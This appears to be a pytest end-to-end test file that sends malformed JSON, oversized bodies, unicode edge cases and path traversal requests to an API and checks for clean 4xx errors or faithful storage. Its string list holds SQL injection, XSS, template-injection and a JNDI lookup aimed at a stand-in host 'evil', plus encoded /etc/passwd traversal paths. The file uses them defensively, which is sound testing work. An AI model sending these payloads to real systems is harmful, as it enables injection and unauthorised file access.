"""Bad input, for every family: malformed JSON, wrong content types, huge bodies, deep nesting,
unicode edge cases, SQL/regex-looking strings, path traversal. Never a 5xx; every 4xx in its
family's envelope with a message a person can act on; accepted input reads back as sent.

Invalid bodies are sent to every route of the template that takes one (generated from the route
table, on the shared World's objects: they stop at parsing, so nothing changes). Edge-case strings
go into fields that store text (team names, fqns, project names, report keys and metadata).
"""
import http.client
import json
import uuid
from urllib.parse import quote, urlsplit

import pytest

from tests.e2e.routebook import (as_json, envelope_ok, error_message, family_of_path, request_for, routes,
                                 shared_world, uniq)

MIB = 1_048_576
BODY_ROUTES = [r for r in routes() if r.method in ("POST", "PUT", "PATCH") and r.scope is not None
               and (r.has_body or r.method == "POST" and r.family == "reports")]
JSON = {"Content-Type": "application/json"}

# (label, raw body, headers, expected status by family) — all invalid for every route
DEEP = 100  # the limit is 64 levels
INVALID = [
    ("unterminated object", "{oops", JSON, 400),
    ("missing value", '{"name": }', JSON, 400),
    ("trailing comma", '{"name": "x",}', JSON, 400),
    ("single quotes", "{'name': 'x'}", JSON, 400),
    ("unterminated string", '{"name": "x', JSON, 400),
    ("bare NaN", '{"name": NaN}', JSON, 400),
    ("Infinity", '{"name": "x", "metadata": {"n": -Infinity}}', JSON, 400),
    ("two documents", '{"name": "x"} {"name": "y"}', JSON, 400),
    ("deep arrays", "[" * DEEP + "]" * DEEP, JSON, 400),
    ("deep objects", '{"a":' * DEEP + "1" + "}" * DEEP, JSON, 400),
    ("unclosed depth 20000", "[" * 20000, JSON, 400),
    ("text/plain", '{"name": "x"}', {"Content-Type": "text/plain"}, {"reports": 400, "*": 415}),
    ("form", "name=x&scopes=admin", {"Content-Type": "application/x-www-form-urlencoded"},
     {"reports": 400, "*": 415}),
    ("xml", "<team><name>x</name></team>", {"Content-Type": "application/xml"}, {"reports": 400, "*": 415}),
    ("multipart", "--b\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nx\r\n--b--\r\n",
     {"Content-Type": "multipart/form-data; boundary=b"}, {"reports": 400, "*": 415}),
    ("over 1 MiB", '{"name": "' + "x" * MIB + '"}', JSON, 413),
]


def _expected(want, family, route=None, label=None):
    if label == "over 1 MiB" and route is not None and route.path.startswith("/api/v1/sync/"):
        return 422  # the sync routes take up to ~6 MB (a manifest): a valid JSON body without one
    return want if isinstance(want, int) else want.get(family, want["*"])


def _check(family, r, where):
    assert r.status_code < 500, (where, r.status_code, r.text[:300])
    if r.status_code >= 400:
        body = as_json(r)
        assert envelope_ok(family, body), (where, r.status_code, r.text[:300])
        assert len(error_message(family, body)) >= 10, (where, r.text[:300])  # a sentence, not a code


@pytest.fixture(scope="module")
def w(runtime):
    return shared_world(runtime)


@pytest.mark.parametrize("route", BODY_ROUTES, ids=str)
def test_invalid_bodies_are_4xx_in_the_family_envelope(w, route):
    path, _, query = request_for(route, w)
    family = route.family
    failures = []
    for label, raw, headers, want in INVALID:
        data = raw.encode("utf-8", "surrogatepass") if isinstance(raw, str) else raw
        r = w.http(route.method, path, w.admin, params=query, data=data, headers=headers)
        body = as_json(r)
        expected = _expected(want, family, route, label)
        if r.status_code != expected or not envelope_ok(family, body):
            failures.append((label, r.status_code, expected, r.text[:200]))
    assert not failures, "\n".join(map(str, failures))


LONE = "\ud800"
SURROGATE_BODIES = [  # a lone UTF-16 surrogate (not text: no UTF-8 encoding exists) in a field that is used
    ("registry", "POST", "/api/v1/teams", {"name": LONE}),
    ("registry", "POST", "/api/v1/teams", {"name": "ok", "metadata": {LONE: 1}}),
    ("registry", "POST", "/api/v1/assets", {"fqn": f"a.{LONE}", "owner_team_id": "{owner}"}),
    ("configuration", "POST", "/api/backend/{slug}/configuration/projects", {"name": LONE}),
    ("reports", "POST", "/report_asset_materialization/", {"asset_key": [LONE]}),
    ("reports", "POST", "/report_asset_materialization/", {"asset_key": "x", "metadata": {"a": LONE}}),
    ("reports", "POST", "/report_asset_materialization/", {"asset_key": "x", "metadata": {LONE: 1}}),
    ("reports", "POST", "/report_asset_materialization/lone", {"partition": LONE}),
    ("reports", "POST", "/report_asset_observation/lone", {"description": LONE}),
    ("reports", "POST", "/report_asset_observation/lone", {"data_version": LONE}),
    ("reports", "POST", "/report_asset_check/lone", {"check_name": LONE, "passed": True}),
]


@pytest.mark.parametrize("family,method,path,body", SURROGATE_BODIES, ids=lambda x: str(x)[:50])
def test_lone_surrogates_are_400_in_every_family(w, family, method, path, body):
    raw = json.dumps(body).replace("{owner}", w.teams["owner"])  # json.dumps escapes it as \ud800
    r = w.http(method, path.format(slug=w.slug), w.admin, data=raw, headers=JSON)
    assert r.status_code == 400 and envelope_ok(family, as_json(r)), (r.status_code, r.text[:300])


def test_a_batch_with_lone_surrogates_rejects_those_events(w):
    r = w.http("POST", "/report_asset_events", w.admin, headers=JSON,
               data=json.dumps([{"type": "materialization", "asset_key": [LONE]},
                                {"type": "observation", "asset_key": ["ok", uniq()], "partition": LONE}]))
    assert r.status_code in (200, 400), r.text[:300]
    if r.status_code == 200:
        assert [x["status"] for x in r.json()["results"]] == ["rejected", "rejected"], r.text[:300]
    else:
        assert envelope_ok("reports", r.json())


@pytest.mark.parametrize("family,path", [("registry", "/api/v1/teams"),
                                         ("configuration", "/api/backend/{slug}/configuration/projects"),
                                         ("reports", "/report_asset_materialization/invalid_utf8")])
def test_bodies_that_are_not_utf8_are_refused_or_read_as_replacement_characters(w, family, path):
    r = w.http("POST", path.format(slug=w.slug), w.admin, data=b'{"name": "\xff\xfe\xc0\xaf"}', headers=JSON)
    _check(family, r, path)


@pytest.mark.parametrize("path,method,family", [
    ("/api/v1/teams", "POST", "registry"),
    ("/api/backend/{slug}/configuration/projects", "POST", "configuration"),
    ("/report_asset_materialization/big", "POST", "reports"),
])
def test_bodies_over_10_mb_are_413_from_the_gateway_in_the_family_envelope(w, path, method, family):
    r = w.http(method, path.format(slug=w.slug), w.admin, data=b"[" + b" " * (10 * 1024 * 1024) + b"]",
               headers=JSON)
    assert r.status_code == 413 and envelope_ok(family, as_json(r)), r.text[:300]


# ------------------------------------------------------------------ strings that are legitimately data
EDGE_STRINGS = [
    "'; DROP TABLE teams; --",
    "\" OR 1=1 --",
    "Robert'); DELETE FROM assets WHERE ('1'='1",
    ".*",
    "(a+)+$",
    "^[a-z]{1,1000000}$",
    "%_%",
    "\\",
    "${jndi:ldap://evil/x}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "\u202eevil\u202c",            # right-to-left override
    "שלום עולם",                    # RTL text
    "zero\u200bwidth\u200d\ufeff",  # zero-width space / joiner, BOM
    "e\u0301\u0301\u0301",          # combining marks
    "emoji 🧪👩‍👩‍👧",
    "\U0010ffff plane 16",
    "tab\there",
    "nul\u0000byte",
    "line\nbreak",
    "../../etc/passwd",
    "%2e%2e%2f",
    "a/b\\c",
    "x" * 255,
]


def _roundtrip(w, create_path, body, read_path_of, field, value, family, where):
    r = w.http("POST", create_path, w.admin, json=body)
    _check(family, r, where)
    if r.status_code < 300:
        got = w.http("GET", read_path_of(r.json()), w.admin)
        assert got.status_code == 200, (where, got.text[:300])
        assert got.json()[field] == value, (where, got.json()[field], value)
    return r.status_code


@pytest.mark.parametrize("value", EDGE_STRINGS, ids=lambda v: repr(v)[:40])
def test_edge_strings_are_stored_as_sent_or_refused_clearly(w, value):
    """Every family: accepted values read back byte for byte; refused ones are 4xx in the envelope."""
    statuses = {}
    statuses["team"] = _roundtrip(w, "/api/v1/teams", {"name": f"{value[:200]} {uniq()}", "metadata": {value: value}},
                                  lambda t: f"/api/v1/teams/{t['id']}", "metadata", {value: value}, "registry",
                                  "team")
    fqn = f"edge.{uniq()}.{value}"
    statuses["asset"] = _roundtrip(w, "/api/v1/assets", {"fqn": fqn, "owner_team_id": w.teams["owner"],
                                                         "metadata": {"description": value}},
                                   lambda a: f"/api/v1/assets/{a['id']}", "fqn", fqn, "registry", "asset")
    for path, params in (("/api/v1/assets/search", {"q": value}), ("/api/v1/assets", {"fqn": value}),
                         ("/api/v1/teams", {"limit": value}), ("/api/v1/events", {"asset_key": value}),
                         ("/api/v1/proposals", {"status": value})):
        _check("registry", w.http("GET", path, w.admin, params=params), (path, params))
    statuses["project"] = _roundtrip(w, f"{w.base}/projects", {"name": value, "description": value},
                                     lambda p: f"{w.base}/projects/{p['id']}", "name", value, "configuration",
                                     "project")
    _check("configuration", w.http("GET", f"{w.base}/projects/0/assets", w.admin, params={"cursor": value}),
           "cursor")
    key = ["edge", uniq(), value]
    r = w.http("POST", "/report_asset_materialization/", w.admin, json={"asset_key": key, "metadata": {value: value},
                                                                          "partition": value})
    _check("reports", r, "report")
    statuses["report"] = r.status_code
    if r.status_code == 200:
        got = w.http("GET", "/api/v1/events", w.admin, params={"asset_key": json.dumps(key)})
        assert got.status_code == 200 and len(got.json()["results"]) == 1, got.text[:300]
        event = got.json()["results"][0]
        assert (event["asset_key"], event["metadata"], event["partition"]) == (key, {value: value}, value)
    if "\u0000" not in value and "\n" not in value and "\t" not in value:
        # plain text (no control characters) is data everywhere: nothing refuses it
        assert statuses["team"] == statuses["project"] == 201 and statuses["report"] == 200, statuses


# ------------------------------------------------------------------ path traversal
def _raw(runtime, method: str, path: str, key: str, body: bytes | None = None):
    """A request whose path is sent exactly as written (requests would resolve dot segments)."""
    url = urlsplit(runtime.url)
    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
    try:
        headers = {"Authorization": f"Bearer {key}"}
        if body is not None:
            headers["Content-Type"] = "application/json"
        conn.request(method, path, body=body, headers=headers)
        resp = conn.getresponse()
        data = resp.read()
        try:
            return resp.status, json.loads(data) if data else None
        except ValueError:
            return resp.status, data
    finally:
        conn.close()


ANY = "no 5xx"
TRAVERSALS = [  # (method, path, expected): encoded separators and dots are part of an id, never a path
    ("GET", "/api/v1/teams/..%2Fapi-keys", 404),
    ("GET", "/api/v1/teams/%2e%2e%2fapi-keys", 404),
    ("GET", "/api/v1/teams/%2E%2E", 404),
    ("GET", "/api/v1/assets/..%2F..%2Fteams", 404),
    ("GET", "/api/v1/assets/a%2Fb%2F..%2F..%2Fc", 404),
    ("GET", "/api/v1/assets/%00", 404),
    ("GET", "/api/v1/assets/..%5C..%5Cwindows", 404),
    ("GET", "/api/v1/contracts/%252e%252e%252f", 404),
    ("DELETE", "/api/v1/teams/..%2F..%2Ftenants", 404),
    ("GET", "/api/backend/{slug}/configuration/projects/..%2F0", 404),
    ("GET", "/api/backend/{slug}/configuration/projects/%2e%2e/assets", 404),
    ("GET", "/api/backend/..%2F{slug}/configuration/projects", 404),
    ("GET", "/api/backend/{slug}%2F..%2Fdefault/configuration/projects", 404),
    ("GET", "/api/backend/{slug}/configuration/projects/0/assets/..%2F..%2F1", 404),
    ("POST", "/report_asset_materialization/..%2F..%2Fetc%2Fpasswd", (200, 400)),
    ("POST", "/report_asset_observation/%2e%2e/%2e%2e/x", (200, 400)),
    ("POST", "/report_asset_check/a%2Fb?check_name=c&passed=true", (200, 400)),
    # raw dot segments: whatever route they resolve to answers (no 5xx, the envelope)
    ("GET", "/api/v1/teams/../api-keys", ANY),
    ("GET", "/api/backend/{slug}/../default/configuration/projects", ANY),
    ("POST", "/report_asset_materialization/../../api/v1/teams", ANY),
]


@pytest.mark.parametrize("method,path,expected", TRAVERSALS, ids=lambda x: str(x)[:60])
def test_path_traversal_is_just_an_unknown_name(runtime, w, method, path, expected):
    path = path.format(slug=w.slug)
    status, body = _raw(runtime, method, path, w.admin, b"{}" if method == "POST" else None)
    assert status < 500, (path, status, body)
    if expected != ANY:
        assert status in ((expected,) if isinstance(expected, int) else expected), (path, status, body)
    if status >= 400:
        families = {family_of_path(path), family_of_path(_dot_resolved(path))}
        assert any(envelope_ok(f, body) for f in families), (path, status, body)


def _dot_resolved(path: str) -> str:
    out = []
    for seg in path.split("?")[0].split("/"):
        if seg == "..":
            if out:
                out.pop()
        elif seg != ".":
            out.append(seg)
    return "/".join(out) or "/"


def test_reported_keys_with_dots_and_slashes_stay_names(runtime, w):
    """A report key with '..' parts is a name like any other (Dagster splits the decoded path on
    '/'): stored under the caller's tenant and read back by that name, never resolved as a path."""
    name = f"trav{uuid.uuid4().hex[:6]}"
    status, body = _raw(runtime, "POST", f"/report_asset_materialization/{name}/..%2F..%2Fx", w.admin, b"{}")
    assert status in (200, 400), (status, body)
    if status == 200:
        found = 0
        for key in ([name, "..", "..", "x"], [name, "../../x"]):
            r = w.http("GET", "/api/v1/events", w.admin, params={"asset_key": json.dumps(key)})
            assert r.status_code == 200, r.text[:300]
            found += len(r.json()["results"])
        assert found == 1
        r = w.http("GET", "/api/v1/events", w.admin, params={"asset_key": quote(f"{name}/../../x", safe="")})
        assert r.status_code < 500
    else:
        assert envelope_ok("reports", body)
